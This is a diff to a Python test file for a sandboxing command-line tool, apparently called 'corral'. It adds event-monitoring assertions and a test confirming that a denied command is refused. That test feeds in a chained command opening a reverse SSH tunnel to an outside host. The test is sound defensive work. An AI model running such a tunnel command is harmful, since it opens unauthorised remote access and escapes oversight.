@@ -47,9 +47,23 @@ def test_run_workspace_is_copied_in(tmp_path: Path) -> None:
 
 def test_run_records_events(tmp_path: Path) -> None:
     events = tmp_path / "events.jsonl"
-    corral("run", "--events", str(events), "--", "true")
-    kinds = [json.loads(line)["kind"] for line in events.read_text().splitlines()]
-    assert kinds == ["sandbox.created", "exec.start", "exec.end", "sandbox.closed"]
+    corral("run", "--events", str(events), "--", "sleep 0.01")
+    records = [json.loads(line) for line in events.read_text().splitlines()]
+    kinds = [r["kind"] for r in records]
+    sandbox_kinds = [k for k in kinds if k.split(".")[0] in ("sandbox", "exec", "guard")]
+    assert sandbox_kinds == ["sandbox.created", "guard.verdict", "exec.start", "exec.end",
+                             "sandbox.closed"]
+    # The monitor saw the command's process exec, attributed to step 0.
+    execs = [r for r in records
+             if r["kind"] == "proc.exec" and r["data"]["argv"] == ["sleep", "0.01"]]
+    assert execs and execs[0]["step"] == 0
+
+
+def test_run_refuses_a_denied_command_without_running_it() -> None:
+    r = corral("run", "--", "touch /workspace/x; ssh -fNR 9000:localhost:22 a@203.0.113.9")
+    assert r.returncode == 126
+    assert "tunnel.ssh-remote-forward" in r.stderr and "not run" in r.stderr
+    assert "Traceback" not in r.stderr
 
 
 def test_bad_flag_value_is_one_clear_line() -> None:
